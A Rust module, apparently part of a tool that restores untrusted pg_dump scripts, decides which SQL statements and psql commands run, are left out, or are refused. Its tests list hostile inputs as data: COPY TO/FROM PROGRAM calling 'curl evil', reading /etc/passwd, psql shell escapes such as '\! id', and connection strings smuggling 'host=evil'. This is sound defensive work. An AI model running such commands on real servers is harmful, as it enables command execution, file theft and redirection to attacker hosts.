//! What is done with a statement, or with a command for psql, of a script that others wrote. Pure.

use super::tokens::{Token, tokens};

/// What is done with a statement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Rule {
    /// It goes to the copy as it stands.
    Run,
    /// It is left out, for this reason (a short noun phrase: the reasons are counted).
    LeaveOut(&'static str),
    /// It belongs to the whole server, and is judged by [`crate::engines::globals`].
    Global,
    /// It makes a database, which is made by us.
    CreateDatabase,
    /// Nothing of the script is run because of it.
    Refuse(String),
}

/// What is done with a command for psql.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Meta {
    /// pg_dump's own frame (`\restrict`): ours stands in its place.
    Frame,
    /// What follows belongs to this database.
    Connect(String),
    /// Nothing of the script is run because of it.
    Refuse(String),
}

/// Settings that make a server load code.
pub(crate) fn loads_code(setting: &str) -> bool {
    setting.ends_with("_libraries")
        || setting.ends_with("_library")
        || setting.ends_with("_library_path")
        || setting.ends_with("_control_path")
        || setting.ends_with("_command")
        || matches!(setting, "jit_provider" | "primary_conninfo" | "wal_consistency_checking")
}

/// Encodings in which a backslash may be a part of a character, so that no reader can tell commands from text.
const UNSAFE_ENCODINGS: [&str; 7] = ["sjis", "shift_jis_2004", "big5", "gbk", "uhc", "gb18030", "johab"];

/// Judges a statement (of a long one, its first part).
pub(crate) fn rule(statement: &[u8]) -> Rule {
    let words = tokens(statement);
    let word = |index: usize| match words.get(index) {
        Some(Token::Word(word)) => word.as_str(),
        _ => "",
    };
    let has = |wanted: &[&str]| {
        words.windows(wanted.len()).any(|part| part.iter().zip(wanted).all(|(token, word)| token.is(word)))
    };
    match (word(0), word(1)) {
        ("drop", _) => Rule::LeaveOut("DROP (the copy is empty)"),
        ("create" | "alter", "tablespace") => Rule::LeaveOut("tablespaces"),
        ("comment", "on") | ("security", "label") if has(&["on", "tablespace"]) => {
            Rule::LeaveOut("tablespaces")
        }
        ("grant" | "revoke", _) if has(&["on", "tablespace"]) => Rule::LeaveOut("tablespaces"),
        ("grant" | "revoke", _) if has(&["on", "parameter"]) => Rule::LeaveOut("rights on parameters"),
        ("create" | "alter", "subscription") => Rule::LeaveOut("subscriptions"),
        ("comment", "on") | ("security", "label") if has(&["on", "subscription"]) => {
            Rule::LeaveOut("subscriptions")
        }
        ("alter", "system") => Rule::LeaveOut("ALTER SYSTEM"),
        ("create", "schema") if word(2) == "public" => Rule::LeaveOut("CREATE SCHEMA public (it is there)"),
        ("create", "database") => Rule::CreateDatabase,
        ("alter", "database") => alter_database(&words),
        ("create" | "alter", "user") if word(2) == "mapping" => Rule::Run,
        ("create" | "alter", "role" | "user" | "group") => Rule::Global,
        ("comment", "on") | ("security", "label") if has(&["on", "role"]) => Rule::Global,
        ("grant" | "revoke", _) if !words.iter().any(|token| token.is("on")) => Rule::Global,
        ("set", _) => set(&words),
        ("load", _) => Rule::LeaveOut("LOAD"),
        ("copy", _) if !has(&["from", "stdin"]) => Rule::Refuse(
            "a COPY that is not FROM stdin reads or writes the server's files or programs".to_owned(),
        ),
        _ => Rule::Run,
    }
}

fn alter_database(words: &[Token]) -> Rule {
    let after = |wanted: &str| {
        let at = words.iter().position(|token| token.is(wanted))?;
        words.get(at + 1).and_then(Token::name)
    };
    if words.iter().any(|token| token.is("tablespace")) {
        return Rule::LeaveOut("tablespaces");
    }
    match after("set") {
        Some(setting) if loads_code(setting) => Rule::LeaveOut("settings that load libraries"),
        _ => Rule::Run,
    }
}

fn set(words: &[Token]) -> Rule {
    let setting = words.get(1).and_then(Token::name).unwrap_or_default();
    let value = words.iter().skip(2).find_map(|token| match token {
        Token::Text(text) => Some(text.to_ascii_lowercase()),
        Token::Word(word) if !matches!(word.as_str(), "to") => Some(word.clone()),
        _ => None,
    });
    let value = value.unwrap_or_default();
    match setting {
        "default_tablespace" | "temp_tablespaces" if !value.is_empty() => Rule::LeaveOut("tablespaces"),
        "client_encoding" if UNSAFE_ENCODINGS.contains(&value.as_str()) => Rule::Refuse(format!(
            "the script is written in {value}, in which a backslash may be a part of a character; dump with \
             --encoding=UTF8"
        )),
        "standard_conforming_strings" if value != "on" => Rule::Refuse(
            "the script turns standard_conforming_strings off, so that a backslash in a text has two meanings; \
             dump from a database where it is on"
                .to_owned(),
        ),
        setting if loads_code(setting) => Rule::LeaveOut("settings that load libraries"),
        _ => Rule::Run,
    }
}

/// Judges a command for psql.
pub(crate) fn meta(line: &[u8], in_statement: bool) -> Meta {
    let text = String::from_utf8_lossy(line);
    let text = text.trim_end();
    let (command, rest) = text.split_once(char::is_whitespace).unwrap_or((text, ""));
    // Only the name: what stands behind it may be a value.
    let refuse = || Meta::Refuse(format!("the command {} of psql", visible(command)));
    match command {
        _ if in_statement => refuse(),
        "\\restrict" | "\\unrestrict" => Meta::Frame,
        // Stands before a `\connect` to a name with quotes; every part of a script sets its own encoding.
        "\\encoding" if rest.trim() == "SQL_ASCII" => Meta::Frame,
        "\\connect" => database(rest.trim()).map_or_else(refuse, Meta::Connect),
        _ => refuse(),
    }
}

fn visible(command: &str) -> String {
    command.chars().take(20).filter(|character| !character.is_control()).collect()
}

/// The database of `\connect`, in the two ways in which pg_dump writes it; nothing else.
fn database(rest: &str) -> Option<String> {
    let Some(conninfo) = rest.strip_prefix("-reuse-previous=on ") else {
        let plain = |text: &str| {
            let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.') || byte >= 0x80;
            (!text.is_empty() && text.bytes().all(fits)).then(|| text.to_owned())
        };
        let inside = rest.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
        return inside.map_or_else(|| plain(rest), |inside| plain(&inside.replace("\"\"", "\"")));
    };
    let inside = conninfo.strip_prefix('"')?.strip_suffix('"')?.replace("\"\"", "\"");
    let quoted = inside.strip_prefix("dbname=")?;
    let Some(quoted) = quoted.strip_prefix('\'') else {
        return (!quoted.contains([' ', '\\', '\'', '='])).then(|| quoted.to_owned());
    };
    let mut name = String::new();
    let mut characters = quoted.strip_suffix('\'')?.chars();
    while let Some(character) = characters.next() {
        match character {
            '\\' => name.push(characters.next()?),
            '\'' => return None,
            other => name.push(other),
        }
    }
    Some(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statements_that_reach_out_or_need_this_machine_do_not_run() {
        for (statement, left_out) in [
            ("CREATE TABLESPACE fast OWNER x LOCATION '/srv';", "tablespaces"),
            ("SET default_tablespace = fast;", "tablespaces"),
            ("ALTER DATABASE shop SET TABLESPACE fast;", "tablespaces"),
            ("GRANT CREATE ON TABLESPACE fast TO x;", "tablespaces"),
            ("ALTER SYSTEM SET archive_command = 'x';", "ALTER SYSTEM"),
            ("ALTER DATABASE shop SET session_preload_libraries TO 'evil';", "settings that load libraries"),
            ("SET local_preload_libraries = 'evil';", "settings that load libraries"),
            ("LOAD 'evil';", "LOAD"),
            ("CREATE SUBSCRIPTION s CONNECTION 'host=prod' PUBLICATION p;", "subscriptions"),
        ] {
            assert_eq!(rule(statement.as_bytes()), Rule::LeaveOut(left_out), "{statement}");
        }
        for statement in [
            "COPY t TO PROGRAM 'curl evil';",
            "COPY t FROM PROGRAM 'curl evil';",
            "COPY t FROM '/etc/passwd';",
            "SET client_encoding = 'SJIS';",
            "SET standard_conforming_strings = off;",
        ] {
            assert!(matches!(rule(statement.as_bytes()), Rule::Refuse(_)), "{statement}");
        }
    }

    #[test]
    fn what_pg_dump_writes_runs() {
        for statement in [
            "SET default_tablespace = '';",
            "SET client_encoding = 'LATIN1';",
            "SET standard_conforming_strings = on;",
            "SELECT pg_catalog.set_config('search_path', '', false);",
            "COPY public.t (a) FROM stdin;",
            "CREATE USER MAPPING FOR x SERVER y;",
            "GRANT SELECT ON TABLE t TO x;",
            "ALTER DATABASE shop OWNER TO x;",
            "ALTER DATABASE shop SET search_path TO 'a';",
            "INSERT INTO t VALUES ('COPY x TO PROGRAM');",
        ] {
            assert_eq!(rule(statement.as_bytes()), Rule::Run, "{statement}");
        }
        for statement in ["CREATE ROLE x;", "GRANT a TO b GRANTED BY c;", "COMMENT ON ROLE x IS 'y';"] {
            assert_eq!(rule(statement.as_bytes()), Rule::Global, "{statement}");
        }
        assert_eq!(rule(b"-- x\n\nCREATE DATABASE shop;"), Rule::CreateDatabase);
    }

    #[test]
    fn of_psqls_commands_only_pg_dumps_own_are_known() {
        for (line, wanted) in [
            ("\\restrict abc\n", Meta::Frame),
            ("\\unrestrict abc\n", Meta::Frame),
            ("\\encoding SQL_ASCII\n", Meta::Frame),
            ("\\connect shop\n", Meta::Connect("shop".into())),
            (
                "\\connect -reuse-previous=on \"dbname='we ird \\'\\\\x \"\"y'\"\n",
                Meta::Connect("we ird '\\x \"y".into()),
            ),
        ] {
            assert_eq!(meta(line.as_bytes(), false), wanted, "{line}");
        }
        for line in [
            "\\! id",
            "\\copy t to '/tmp/x'",
            "\\i x.sql",
            "\\o |cat",
            "\\set x `id`",
            "\\gexec",
            "\\password",
            "\\connect \"host=evil\"",
            "\\connect - - evil",
            "\\connect `id`",
            "\\c x",
            "\\connect :x",
            "\\encoding SJIS",
            "\\connect -reuse-previous=on \"dbname='x' host='evil'\"",
            "\\connect -reuse-previous=on \"host=evil\"",
            "\\connect -reuse-previous=on \"dbname=x host=evil\"",
            "\\restrict;\\! id",
        ] {
            assert!(matches!(meta(line.as_bytes(), false), Meta::Refuse(_)), "{line}");
        }
        assert!(matches!(meta(b"\\connect shop", true), Meta::Refuse(_)));
    }
}
